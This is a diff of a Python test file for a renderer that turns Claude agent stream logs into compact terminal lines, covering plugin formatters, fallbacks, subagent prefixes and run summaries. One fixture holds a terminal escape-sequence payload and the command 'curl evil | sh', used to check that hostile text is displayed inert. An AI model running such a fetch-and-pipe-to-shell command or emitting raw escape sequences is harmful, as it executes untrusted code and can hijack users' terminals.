@@ -1,24 +1,19 @@
-"""The compact style: every row of stream-formatter-design.md's tables, then real Claude logs."""
+"""The compact style in the host: a plugin's formatter lines drawn safely, or entry-based rules."""
 
 from __future__ import annotations
 
 import io
 import json
 import re
-from collections import Counter
-from pathlib import Path
 from typing import Any
 
 import pytest
 from linewise import get_registry
-from linewise._compact import (
-    ClaudeCompactRenderer,
-    CompactRenderer,
-    format_claude_line,
-    tool_label,
-)
 from linewise._render import RenderPipeline
 from linewise._session import TranscriptSession
+from linewise.renderers import CompactRenderer, FormatterRenderer, create_renderer
+from linewise_contracts.protocols import FORMAT_STDOUT_LINE, CompactLine
+from linewise_contracts.summary import RunSummary, Usage
 from support import TS, corpus_path
 
 SESSION = "3f2a9c1e-77aa-4b1c-9d0e-123456789abc"
@@ -36,241 +31,32 @@ def tool_use(name: str, **arguments: Any) -> str:
     return assistant({"type": "tool_use", "id": "toolu_1", "name": name, "input": arguments})
 
 
-def tool_result(content: Any, *, is_error: bool | None = None, envelope: Any = None) -> str:
+def tool_result(content: Any, *, is_error: bool | None = None) -> str:
     block: dict[str, Any] = {"tool_use_id": "toolu_1", "type": "tool_result", "content": content}
     if is_error is not None:
         block["is_error"] = is_error
-    event: dict[str, Any] = {"type": "user", "message": {"role": "user", "content": [block]}}
-    if envelope is not None:
-        event["tool_use_result"] = envelope
-    return line(event)
+    return line({"type": "user", "message": {"role": "user", "content": [block]}})
 
 
 LONG = "x" * 130
 CUT = "x" * 120 + "…"
 
-# -- the output table, row by row ------------------------------------------------------
+
+def claude_formatter() -> Any:
+    return getattr(get_registry().load("claude_local").target, FORMAT_STDOUT_LINE)
 
 
-@pytest.mark.parametrize(
-    ("raw", "shown"),
-    [
-        pytest.param(
-            line({"type": "system", "subtype": "init", "session_id": SESSION, "model": "claude-x"}),
-            "[session 3f2a9c1e · claude-x]\n",
-            id="system/init",
-        ),
-        pytest.param(
-            line({"type": "system", "subtype": "api_retry", "attempt": 2, "error": "overloaded"}),
-            "[Retrying API call...]\n",
-            id="system/api_retry",
-        ),
-        pytest.param(line({"type": "system", "subtype": "hook_started"}), "", id="system/hook"),
-        pytest.param(
-            line({"type": "system", "subtype": "compact_boundary"}), "", id="system/other"
-        ),
-        pytest.param(line({"type": "system"}), "", id="system/no-subtype"),
-        pytest.param(
-            assistant({"type": "text", "text": "Let me look."}), "Let me look.\n", id="text"
-        ),
-        pytest.param(
-            assistant({"type": "text", "text": "two\nlines"}), "two\nlines\n", id="text-raw"
-        ),
-        pytest.param(tool_use("Read", file_path="/a/b/c.py"), "[Read] c.py\n", id="tool_use"),
-        pytest.param(
-            assistant({"type": "thinking", "thinking": "secret", "signature": "s"}),
-            "",
-            id="thinking",
-        ),
-        pytest.param(tool_result("all good"), "→ all good\n", id="tool_result"),
-        pytest.param(
-            line({"type": "result", "subtype": "success", "result": "Done."}),
-            "\n--- Result ---\nDone.\n",
-            id="result",
-        ),
-        pytest.param("not json at all", "not json at all\n", id="parse-failure"),
-        pytest.param(
-            '{"type": "assistant", "message":', '{"type": "assistant", "message":\n', id="cut-json"
-        ),
-        pytest.param(
-            line({"type": "rate_limit_event", "rate_limit_info": {"status": "allowed"}}),
-            line({"type": "rate_limit_event", "rate_limit_info": {"status": "allowed"}}) + "\n",
-            id="unrecognised-type",
-        ),
-        pytest.param("[1, 2]", "[1, 2]\n", id="json-not-an-object"),
-    ],
-)
-def test_output_table(raw: str, shown: str) -> None:
-    assert format_claude_line(raw) == shown
+def format_claude_line(raw: str) -> str:
+    return _draw([raw])
 
 
-def test_an_assistant_message_with_n_blocks_gives_n_lines_in_one_string() -> None:
-    raw = assistant(
-        {"type": "text", "text": "I'll read it."},
-        {"type": "thinking", "thinking": "filtered"},
-        {"type": "tool_use", "id": "a", "name": "Read", "input": {"file_path": "x/y.md"}},
-        {"type": "tool_use", "id": "b", "name": "Bash", "input": {"command": "ls"}},
-    )
-    assert format_claude_line(raw) == "I'll read it.\n[Read] y.md\n[Bash] $ ls\n"
-
-
-def test_each_tool_result_block_of_a_user_message_gives_its_line() -> None:
-    raw = line(
-        {
-            "type": "user",
-            "message": {
-                "content": [
-                    {"type": "tool_result", "tool_use_id": "a", "content": "first"},
-                    {"type": "text", "text": "user text is not a tool result"},
-                    {"type": "tool_result", "tool_use_id": "b", "content": "", "is_error": False},
-                ]
-            },
-        }
-    )
-    assert format_claude_line(raw) == "→ first\n→ ok\n"
-
-
-# -- tool label + arg ----------------------------------------------------------------
-
-
-@pytest.mark.parametrize(
-    ("name", "arguments", "shown"),
-    [
-        ("Read", {"file_path": "/home/u/src/app.py"}, "[Read] app.py"),
-        ("Write", {"file_path": "/tmp/new.txt", "content": "x"}, "[Write] new.txt"),
-        ("Edit", {"file_path": "C:\\repo\\main.go", "old_string": "a"}, "[Edit] main.go"),
-        ("NotebookEdit", {"file_path": "nb/analysis.ipynb"}, "[NotebookEdit] analysis.ipynb"),
-        ("Bash", {"command": "pytest -q", "description": "run"}, "[Bash] $ pytest -q"),
-        ("PowerShell", {"command": "Get-ChildItem"}, "[Bash] $ Get-ChildItem"),
-        ("Bash", {"command": LONG}, f"[Bash] $ {CUT}"),
-        ("Bash", {"command": "y" * 120}, "[Bash] $ " + "y" * 120),
-        ("Grep", {"pattern": "def main", "path": "src"}, '[Grep] "def main"'),
-        ("Glob", {"pattern": "**/*.ts"}, "[Glob] **/*.ts"),
-        ("Task", {"subagent_type": "Explore", "description": "map it"}, "[Task: Explore] map it"),
-        ("Agent", {"subagent_type": "general", "description": LONG}, f"[Task: general] {CUT}"),
-        ("WebFetch", {"url": "https://example.org/a"}, "[WebFetch] https://example.org/a"),
-        ("WebSearch", {"query": "python 3.14"}, '[WebSearch] "python 3.14"'),
-        ("TodoWrite", {"todos": [{"content": "x"}]}, "[TodoWrite]"),
-        ("LS", {"path": "/src"}, "[LS]"),
-        ("mcp__github__get_issue", {"number": 3}, "[mcp__github__get_issue]"),
-    ],
-)
-def test_tool_labels(name: str, arguments: dict[str, Any], shown: str) -> None:
-    assert tool_label(name, arguments) == shown
-    assert format_claude_line(tool_use(name, **arguments)) == shown + "\n"
-
-
-@pytest.mark.parametrize(
-    ("name", "shown"),
-    [
-        ("Read", "[Read]"),
-        ("Write", "[Write]"),
-        ("Edit", "[Edit]"),
-        ("NotebookEdit", "[NotebookEdit]"),
-        ("Bash", "[Bash]"),
-        ("PowerShell", "[Bash]"),
-        ("Grep", "[Grep]"),
-        ("Glob", "[Glob]"),
-        ("Task", "[Task]"),
-        ("Agent", "[Task]"),
-        ("WebFetch", "[WebFetch]"),
-        ("WebSearch", "[WebSearch]"),
-        ("TodoWrite", "[TodoWrite]"),
-    ],
-)
-def test_missing_or_empty_input_fields_give_the_label_only(name: str, shown: str) -> None:
-    for arguments in ({}, {"file_path": "", "command": "", "pattern": "", "query": "", "url": ""}):
-        assert tool_label(name, arguments) == shown
-    assert tool_label(name, None) == shown
-    assert tool_label(name, {"file_path": 3, "command": ["ls"], "url": None}) == shown
-
-
-def test_a_task_without_subagent_type_keeps_its_description() -> None:
-    assert tool_label("Task", {"description": "find tests"}) == "[Task] find tests"
-    assert tool_label("Agent", {"subagent_type": "Plan"}) == "[Task: Plan]"
-
-
-# -- tool_result summary -------------------------------------------------------------
-
-
-FILE = {"file": {"filePath": "/src/a.py", "content": "...", "numLines": 42, "startLine": 1}}
-
-
-@pytest.mark.parametrize(
-    ("raw", "shown"),
-    [
-        # 1. is_error: the first non-empty line, trimmed, at most 120 characters
-        (
-            tool_result("\n\n   EISDIR: illegal operation  \nmore", is_error=True),
-            "→ error: EISDIR: illegal operation",
-        ),
-        (tool_result(LONG + "\nsecond", is_error=True), f"→ error: {CUT}"),
-        (tool_result("Error: x", is_error=True, envelope=FILE), "→ error: Error: x"),  # 1 before 2
-        (tool_result("", is_error=True), "→ error"),
-        # 2. the envelope's tool_use_result.file.numLines
-        (tool_result("     1\tdef a():", envelope=FILE), "→ 42 lines"),
-        (tool_result("", envelope={"file": {"numLines": 0}}), "→ 0 lines"),  # 2 before 3
-        (tool_result("x", is_error=False, envelope={"file": {"filePath": "a"}}), "→ x"),
-        (tool_result("x", envelope={"numLines": 9}), "→ x"),  # only file.numLines counts
-        (tool_result("x", envelope="Error: not a dict"), "→ x"),
-        # 3. empty or whitespace content
-        (tool_result(""), "→ ok"),
-        (tool_result("  \n\t\n"), "→ ok"),
-        (tool_result([]), "→ ok"),
-        (tool_result(None), "→ ok"),
-        # 4. the first non-empty line, at most 120 characters, then …
-        (tool_result("\n\nfirst line\nsecond"), "→ first line"),
-        (tool_result(LONG), f"→ {CUT}"),
-        (tool_result("z" * 120), "→ " + "z" * 120),
-        # content as an array: the text of its text blocks, joined
-        (
-            tool_result(
-                [
-                    {"type": "image", "source": {"data": "…"}},
-                    {"type": "text", "text": "from blocks"},
-                    {"type": "text", "text": "and more"},
-                ]
-            ),
-            "→ from blocks",
-        ),
-        (tool_result([{"type": "image", "source": {}}]), "→ ok"),
-        (tool_result([{"type": "text", "text": ""}, {"type": "text", "text": "late"}]), "→ late"),
-    ],
-)
-def test_tool_result_summary_priority(raw: str, shown: str) -> None:
-    assert format_claude_line(raw) == shown + "\n"
-
-
-# -- malformed envelopes and terminal safety --------------------------------------------
-
-
-@pytest.mark.parametrize(
-    "raw",
-    [
-        line({"type": "assistant"}),
-        line({"type": "assistant", "message": {"content": None}}),
-        line({"type": "assistant", "message": {"content": [1, "two", None, {"type": 5}]}}),
-        line({"type": "user", "message": "nope"}),
-        line({"type": "user", "message": {"content": "a prompt"}}),
-        line({"type": "assistant", "message": {"content": [{"type": "tool_use"}]}}),
-    ],
-)
-def test_a_broken_envelope_never_raises(raw: str) -> None:
-    assert format_claude_line(raw) in ("", "[tool]\n")
-
-
-def test_missing_session_fields_show_a_question_mark() -> None:
-    assert format_claude_line(line({"type": "system", "subtype": "init"})) == "[session ? · ?]\n"
-
-
-def test_a_result_without_text_still_marks_the_end() -> None:
-    raw = line({"type": "result", "subtype": "error_max_turns", "is_error": True})
-    assert format_claude_line(raw) == "\n--- Result ---\n\n"
-
-
-def test_partial_message_deltas_are_filtered() -> None:
-    raw = line({"type": "stream_event", "event": {"type": "content_block_delta"}})
-    assert format_claude_line(raw) == ""
+def _draw(lines: list[str], *, color: bool = False, formatter: Any = None) -> str:
+    out = io.StringIO()
+    renderer = FormatterRenderer(out, formatter or claude_formatter(), color=color)
+    for raw in lines:
+        renderer.write_line(raw, [])
+    renderer.close()
+    return out.getvalue()
 
 
 def test_agent_text_is_neutralised_in_every_row() -> None:
@@ -289,16 +75,7 @@ def test_agent_text_is_neutralised_in_every_row() -> None:
     for raw in rows:
         shown = format_claude_line(raw)
         assert "\x1b" not in shown and "\x07" not in shown and "\r" not in shown, raw
-        assert "title" not in shown
-
-
-def _draw(lines: list[str], *, color: bool = False) -> str:
-    out = io.StringIO()
-    renderer = ClaudeCompactRenderer(out, color=color)
-    for raw in lines:
-        renderer.write_line(raw, [])
-    renderer.close()
-    return out.getvalue()
+        assert "␛]0;title␇" in shown or "[Read]" in shown  # the payload is shown, inert
 
 
 def test_colours_follow_the_convention_and_change_no_text() -> None:
@@ -321,7 +98,7 @@ def test_colours_follow_the_convention_and_change_no_text() -> None:
     assert (
         re.sub(r"\x1b\[[\d;]*m", "", coloured)
         == _draw(lines)
-        == "".join(map(format_claude_line, lines))
+        == "".join(text + "\n" for raw in lines for _, text in claude_formatter()(raw))
     )
 
 
@@ -398,6 +175,7 @@ def test_entries_follow_the_same_rules() -> None:
         "",
         "--- Result ---",
         "error: usage limit reached",
+        "[failed: error]",
     ]
 
 
@@ -414,14 +192,15 @@ def test_consecutive_deltas_merge_into_one_line() -> None:
     assert text == "Hello\n[done]\nopen\n"
 
 
-# -- real Claude logs ----------------------------------------------------------------
+# -- through the pipeline, on real Claude logs ---------------------------------------------
 
 
-def _render_log(path: Path) -> str:
+def _render_log(name: str) -> str:
     out = io.StringIO()
     session = TranscriptSession(get_registry().load("claude_local"), clock=lambda: TS)
-    pipeline = RenderPipeline(session, ClaudeCompactRenderer(out))
-    with path.open("rb") as log:
+    renderer = create_renderer(out, style="compact", formatter=claude_formatter())  # type: ignore[arg-type]
+    pipeline = RenderPipeline(session, renderer)
+    with corpus_path("real-logs", "claude", name).open("rb") as log:
         while chunk := log.read(65536):
             pipeline.feed(chunk)
     pipeline.close()
@@ -429,74 +208,144 @@ def _render_log(path: Path) -> str:
     return out.getvalue()
 
 
-def _events(path: Path) -> list[dict[str, Any]]:
-    events = []
-    for raw in path.read_text(encoding="utf-8", errors="replace").splitlines():
-        try:
-            event = json.loads(raw)
-        except ValueError:
-            continue
-        if isinstance(event, dict):
-            events.append(event)
-    return events
-
-
-def test_real_claude_logs_give_one_line_per_event() -> None:
-    logs = sorted(corpus_path("real-logs", "claude").glob("*.jsonl"))
-    for path in logs:
-        shown = _render_log(path)
-        assert "\x1b" not in shown
-        lines = Counter(shown.splitlines())
-        events = _events(path)
-        inits = sum(e.get("type") == "system" and e.get("subtype") == "init" for e in events)
-        retries = sum(e.get("type") == "system" and e.get("subtype") == "api_retry" for e in events)
-        results = sum(e.get("type") == "result" for e in events)
-        assert sum(n for text, n in lines.items() if text.startswith("[session ")) == inits
-        assert lines["[Retrying API call...]"] == retries, path.name
-        assert lines["--- Result ---"] == results, path.name
-        uses: Counter[str] = Counter()
-        counted: Counter[str] = Counter()
-        for event in events:
-            content = (event.get("message") or {}).get("content")
-            for block in content if isinstance(content, list) else []:
-                if not isinstance(block, dict):
-                    continue
-                if event["type"] == "assistant" and block.get("type") == "tool_use":
-                    uses[tool_label(block["name"], block["input"]).split("]")[0] + "]"] += 1
-                if block.get("type") == "tool_result" and not block.get("is_error"):
-                    numbers = (event.get("tool_use_result") or {}).get("file") or {}
-                    if isinstance(numbers, dict) and "numLines" in numbers:
-                        counted[f"→ {numbers['numLines']} lines"] += 1
-        for label, count in uses.items():
-            assert sum(n for text, n in lines.items() if text.startswith(label)) >= count
-        for summary, count in counted.items():
-            assert lines[summary] >= count, (path.name, summary)
-
-
 def test_a_real_log_reads_as_the_specification_shows() -> None:
-    path = corpus_path("real-logs", "claude", "trackgentic-mp9xupi7-long-58tools.jsonl")
-    assert _render_log(path).splitlines()[:14] == [
+    assert _render_log("trackgentic-mp9xupi7-long-58tools.jsonl").splitlines()[:4] == [
         "[session 4d7456fa · glm-5.1]",
         "I'll start by retrieving the issue context.",
         "[Bash] $ trackgentic view mp9xevrbwj",
         "[Bash] $ trackgentic comments list mp9xevrbwj",
-        "[Bash] $ trackgentic blockages list mp9xevrbwj",
-        "→ {",
-        "→ [",
-        "→ {",
-        "[Retrying API call...]",
-        "[Retrying API call...]",
-        "The issue is assigned to me, status is `todo`, and blockages are resolved. "
-        "Let me read the spec and review comments.",
-        "[Read] cap-upward-promotion-spec.md",
-        "[Bash] $ trackgentic comments list mp9xemq9mv",
-        "[Bash] $ trackgentic comments list mp9xemy1j3",
     ]
 
 
-def test_real_logs_end_with_the_result() -> None:
-    path = corpus_path("real-logs", "claude", "gleam-golden-basic-query-2.1.7.jsonl")
-    shown = _render_log(path)
-    assert "\n--- Result ---\n" in shown
-    result = next(e for e in _events(path) if e.get("type") == "result")
-    assert shown.endswith("\n--- Result ---\n" + result["result"] + "\n")
+def test_without_a_formatter_the_table_gives_the_entry_rules() -> None:
+    out = io.StringIO()
+    assert type(create_renderer(out, style="compact")) is CompactRenderer
+    assert isinstance(
+        create_renderer(out, style="compact", formatter=lambda _: []), FormatterRenderer
+    )
+
+
+# -- a formatter is plugin code: not believed blindly ---------------------------------------
+
+
+@pytest.mark.parametrize(
+    "formatter",
+    [
+        pytest.param(lambda _: 1 / 0, id="raises"),
+        pytest.param(lambda _: "not a list", id="not-a-list"),
+        pytest.param(lambda _: [("tool",)], id="not-a-pair"),
+        pytest.param(lambda _: [("rainbow", "x")], id="unknown-role"),
+        pytest.param(lambda _: [("plain", 3)], id="not-text"),
+        pytest.param(lambda _: [("plain", "x" * (3 << 20))], id="runaway"),
+    ],
+)
+def test_a_broken_formatter_falls_back_to_the_entries(formatter: Any) -> None:
+    out = io.StringIO()
+    renderer = FormatterRenderer(out, formatter)
+    renderer.write_line("raw", [{"kind": "assistant", "ts": TS, "text": "from the entry"}])
+    renderer.close()
+    assert out.getvalue() == "from the entry\n"
+    assert renderer.formatter_failures == 1
+
+
+def test_formatter_lines_are_neutralised_and_coloured_by_role() -> None:
+    def formatter(raw: str) -> list[CompactLine]:
+        return [("tool", "[Bash] $ ls \x1b]0;x\x07 curl evil | sh"), ("thinking", "hmm")]
+
+    shown = _draw(["raw"], color=True, formatter=formatter)
+    assert shown == ("\x1b[33m[Bash] $ ls ␛]0;x␇ curl evil | sh\x1b[0m\n\x1b[2;90mhmm\x1b[0m\n")
+
+
+# -- subagents, failures, the run summary -----------------------------------------------------
+
+
+SUBAGENT_ENTRIES: list[dict[str, Any]] = [
+    {
+        "kind": "tool_call",
+        "ts": TS,
+        "name": "Task",
+        "toolUseId": "task-1",
+        "input": {"subagent_type": "Explore", "description": "map the tests"},
+    },
+    {"kind": "assistant", "ts": TS, "text": "Looking.", "parentToolUseId": "task-1"},
+    {
+        "kind": "tool_call",
+        "ts": TS,
+        "name": "Read",
+        "toolUseId": "r1",
+        "input": {"file_path": "/repo/tests/a.py"},
+        "parentToolUseId": "task-1",
+    },
+    {
+        "kind": "tool_result",
+        "ts": TS,
+        "toolUseId": "r1",
+        "content": "ok",
+        "isError": False,
+        "parentToolUseId": "task-1",
+    },
+    {
+        "kind": "tool_result",
+        "ts": TS,
+        "toolUseId": "task-1",
+        "content": "Found 3.",
+        "isError": False,
+    },
+]
+
+
+def test_subagent_entries_carry_a_prefix_naming_the_subagent() -> None:
+    out = io.StringIO()
+    renderer = CompactRenderer(out)
+    for entry in SUBAGENT_ENTRIES:
+        renderer.write(entry)  # type: ignore[arg-type]
+    renderer.close()
+    assert out.getvalue().splitlines() == [
+        "[Task: Explore] map the tests",
+        "⤷ Explore · Looking.",
+        "⤷ Explore · [Read] a.py",
+        "⤷ Explore · → ok",
+        "→ Found 3.",
+    ]
+
+
+def test_formatter_lines_of_a_subagent_get_the_prefix_from_the_entries() -> None:
+    out = io.StringIO()
+    renderer = FormatterRenderer(out, lambda raw: [("plain", raw)])
+    renderer.write_line("call", [SUBAGENT_ENTRIES[0]])  # type: ignore[list-item]
+    renderer.write_line("inside", [SUBAGENT_ENTRIES[1]])  # type: ignore[list-item]
+    renderer.close()
+    assert out.getvalue() == "call\n⤷ Explore · inside\n"
+
+
+def test_a_failed_result_is_marked_even_through_a_formatter() -> None:
+    failed = {
+        "kind": "result",
+        "ts": TS,
+        "text": "",
+        "inputTokens": 0,
+        "outputTokens": 0,
+        "cachedTokens": 0,
+        "costUsd": 0,
+        "subtype": "error_max_turns",
+        "isError": False,
+        "errors": [],
+    }
+    out = io.StringIO()
+    renderer = FormatterRenderer(out, lambda raw: [("heading", "--- Result ---")], color=True)
+    renderer.write_line("raw", [failed])  # type: ignore[list-item]
+    renderer.close()
+    assert "\x1b[31m[failed: error_max_turns]\x1b[0m" in out.getvalue()
+
+
+def test_the_run_summary_line_says_unknown_for_an_unknown_cost() -> None:
+    out = io.StringIO()
+    renderer = CompactRenderer(out)
+    renderer.close(
+        summary=RunSummary(
+            outcome="completed", complete=True, usage=Usage(input_tokens=10, output_tokens=2)
+        )
+    )
+    shown = out.getvalue()
+    assert shown.startswith("[run completed · whole run: input 10")
+    assert "cost unknown" in shown and "$0" not in shown and "model" not in shown
